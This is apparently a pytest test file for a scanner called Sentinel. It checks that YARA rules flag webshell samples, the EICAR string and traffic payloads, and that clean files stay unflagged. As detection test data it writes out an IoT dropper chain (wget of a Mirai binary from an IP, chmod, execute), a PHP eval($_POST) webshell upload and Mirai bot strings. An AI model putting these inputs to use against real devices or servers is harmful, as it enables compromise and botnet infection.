"""Scanning: the corpus samples match what the corpus manifest (and the yara CLI) says, clean files match nothing,
and payloads from traffic become yara_match events that carry their flow."""

from __future__ import annotations

import hashlib
import os
import random
import shutil
import subprocess
from pathlib import Path

import pytest

from sentinel.content.rules import load_rules
from sentinel.content.scan import scan_file, scan_files, scan_payloads
from sentinel.decode.base import Flow, Payload

REPO = Path(__file__).resolve().parents[2]
THOR = "signature-base_thor-webshells"
GEN = "signature-base_gen_suspicious_strings"

# Assembled at run time so this file is not itself a match for the rules (or for anyone's antivirus).
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.fixture(scope="module")
def corpus_rules(yara_corpus: Path):
    return load_rules([yara_corpus / "rules"], use_cache=False)


def _hits(rules, path: Path) -> set[tuple[str, str]]:
    res = scan_file(rules.rules, str(path), path.stat().st_size)
    assert res.error is None
    return {(ev.namespace, ev.rule) for ev in res.matches}


def _yara_cli(rule_file: Path, sample: Path) -> set[str]:
    out = subprocess.run(["yara", "-w", str(rule_file), str(sample)], capture_output=True, text=True, check=True)
    return {line.split()[0] for line in out.stdout.splitlines() if line.strip()}


def test_eicar_sample_matches_only_SUSP_Just_EICAR(corpus_rules, yara_corpus: Path) -> None:
    sample = yara_corpus / "samples" / "eicar_extracted_from_dev15_smb.txt"
    assert _hits(corpus_rules, sample) == {(GEN, "SUSP_Just_EICAR")}


def test_caidao_sample_matches_only_webshell_caidao_shell_404(corpus_rules, yara_corpus: Path) -> None:
    sample = yara_corpus / "samples" / "caidao_chopper_404.php.txt"
    assert _hits(corpus_rules, sample) == {(THOR, "webshell_caidao_shell_404")}


def test_c99shell_matches_the_18_thor_webshells_rules(corpus_rules, yara_corpus: Path) -> None:
    hits = _hits(corpus_rules, yara_corpus / "samples" / "c99shell.php.txt")
    assert {ns for ns, _ in hits} == {THOR}
    names = {rule for _, rule in hits}
    assert len(names) == 18
    assert {"webshell_c99_generic", "webshell_c99_c99shell_c99_c99shell", "multiple_php_webshells_2"} <= names


@pytest.mark.skipif(shutil.which("yara") is None, reason="yara CLI not installed")
@pytest.mark.parametrize("sample", ["eicar_extracted_from_dev15_smb.txt", "caidao_chopper_404.php.txt",
                                    "c99shell.php.txt"])
def test_samples_match_what_the_yara_cli_finds(corpus_rules, yara_corpus: Path, sample: str) -> None:
    # why: the CLI links a different libyara (4.2 vs yara-python's 4.5); these rules use nothing that changed
    path = yara_corpus / "samples" / sample
    expected = {(Path(f).stem, rule) for f in sorted((yara_corpus / "rules").iterdir())
                for rule in _yara_cli(f, path)}
    assert expected  # every sample matches something
    assert _hits(corpus_rules, path) == expected


def test_match_events_carry_hash_offset_meta_and_size(corpus_rules, yara_corpus: Path) -> None:
    sample = yara_corpus / "samples" / "caidao_chopper_404.php.txt"
    data = sample.read_bytes()
    (ev,) = scan_file(corpus_rules.rules, str(sample), len(data)).matches
    assert ev.kind == "yara_match" and ev.layer == "application"
    assert ev.sha256 == hashlib.sha256(data).hexdigest()
    assert ev.size == len(data) and ev.origin == str(sample)
    assert ev.meta["author"].startswith("Florian Roth")
    # the rule's single string is found where it is in the file
    assert ev.offset == data.index(b"<?php")


def _negative_files(root: Path, corpus: Path) -> list[Path]:
    rnd = random.Random(20261125)
    random_files = []
    for i, size in enumerate((0, 1, 69, 4096, 300_000)):
        p = root / f"random{i}.bin"
        p.write_bytes(rnd.randbytes(size))
        random_files.append(p)
    logs = sorted((corpus / "logs").iterdir())
    py = sorted((REPO / "sentinel").rglob("*.py"))
    assert logs and py
    return random_files + logs + py


def test_clean_files_match_nothing(tmp_path: Path, yara_corpus: Path) -> None:
    rs = load_rules()  # the built-in rules, Sentinel's own included
    files = _negative_files(tmp_path, yara_corpus.parent)
    results = list(scan_files(rs.rules, [(str(p), p.stat().st_size) for p in files]))
    assert len(results) == len(files)
    assert [r.error for r in results if r.error] == []
    assert [(r.path, [e.rule for e in r.matches]) for r in results if r.matches] == []


def test_the_thread_pool_gives_the_same_results_in_the_same_order(corpus_rules, yara_corpus: Path,
                                                                   tmp_path: Path) -> None:
    files = [(str(p), p.stat().st_size) for p in sorted((yara_corpus / "samples").iterdir())] * 3
    one = [(r.path, [e.rule for e in r.matches]) for r in scan_files(corpus_rules.rules, files, threads=1)]
    two = [(r.path, [e.rule for e in r.matches]) for r in scan_files(corpus_rules.rules, files, threads=2, window=2)]
    assert one == two and len(one) == 9


def test_a_vanished_file_is_an_error_result_not_an_exception(corpus_rules, tmp_path: Path) -> None:
    res = scan_file(corpus_rules.rules, str(tmp_path / "gone.txt"), 10)
    assert res.error and res.matches == []


def test_a_file_name_that_is_not_utf8_is_scanned_and_shown_escaped(corpus_rules, tmp_path: Path) -> None:
    path = os.fsdecode(os.fsencode(tmp_path) + b"/caf\xe9.txt")
    with open(path, "wb") as fh:
        fh.write(EICAR)
    res = scan_file(corpus_rules.rules, path, len(EICAR))
    assert res.error is None
    assert [(e.rule, e.origin) for e in res.matches] == [("SUSP_Just_EICAR", f"{tmp_path}/caf\\xe9.txt")]


FLOW = Flow(uid="Cx1", proto="tcp", orig_ip="10.0.0.5", orig_port=49152, resp_ip="10.0.0.80", resp_port=80,
            sensor="pcap")


def test_payload_eicar_in_an_http_response_body_gives_an_event_with_its_flow(corpus_rules) -> None:
    payloads = [
        Payload("pcap:cap.pcap:flow Cx1:http-request", b"GET / HTTP/1.1\r\n", 1700000000.0, FLOW),
        Payload("pcap:cap.pcap:flow Cx1:http-response", EICAR, 1700000001.5, FLOW),
    ]
    (ev,) = scan_payloads(corpus_rules.rules, payloads)
    assert ev.rule == "SUSP_Just_EICAR" and ev.namespace == GEN
    assert ev.origin == "pcap:cap.pcap:flow Cx1:http-response"
    assert ev.uid == "Cx1" and ev.ts == 1700000001.5
    assert (ev.src_ip, ev.src_port, ev.dst_ip, ev.dst_port, ev.proto) == ("10.0.0.5", 49152, "10.0.0.80", 80, "tcp")
    assert ev.sensor == "pcap"
    assert ev.sha256 == hashlib.sha256(EICAR).hexdigest() and ev.size == len(EICAR) and ev.offset == 0


def test_payload_without_a_flow_has_no_endpoints(corpus_rules) -> None:
    (ev,) = scan_payloads(corpus_rules.rules, [Payload("smb-file", EICAR, 5.0)])
    assert (ev.uid, ev.src_ip, ev.dst_ip) == (None, None, None)
    assert ev.sensor == "yara"
    assert scan_payloads(corpus_rules.rules, [Payload("x", b"benign body", 1.0, FLOW)]) == []


# --- Sentinel's own rules -------------------------------------------------------------------------------------------

def _own_rule_hits(data: bytes) -> list[str]:
    rs = load_rules()
    return sorted(m.rule for m in rs.rules.match(data=data) if m.namespace == "sentinel_smartcity")


def test_mirai_like_bot_strings() -> None:
    bot = b"\x7fELF...." + b"/bin/busybox " + b"MIRAI\x00" + b"xc35" + b"11\x00vizx" + b"v\x00/dev/watchdog\x00"
    assert _own_rule_hits(bot) == ["SENTINEL_IoT_Mirai_Like_Bot_Strings"]
    # a busybox call alone is ordinary embedded-Linux content
    assert _own_rule_hits(b"/bin/busybox ls /tmp\n/dev/watchdog\n") == []


def test_iot_dropper_chain_in_an_http_request() -> None:
    cmd = (b"GET /shell?cd+/tmp;" + b"wget http://198.51.100.7/bins/mirai." + b"arm7; chmod 777 mirai.arm7; ./mirai.arm7")
    assert _own_rule_hits(cmd.replace(b"+", b" ")) == ["SENTINEL_IoT_Dropper_Shell_Chain"]
    assert _own_rule_hits(b"wget http://example.org/install.sh && chmod +x install.sh") == []


def test_webshell_upload_in_a_multipart_body() -> None:
    body = (b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x" + b".php\"\r\n"
            b"Content-Type: application/octet-stream\r\n\r\n<?php @ev" + b"al($_POST['c']); ?>\r\n--b--\r\n")
    assert _own_rule_hits(body) == ["SENTINEL_Webshell_Upload_Multipart"]
    # the same upload form carrying a picture is not an alert
    assert _own_rule_hits(body.replace(b".php", b".png")) == []
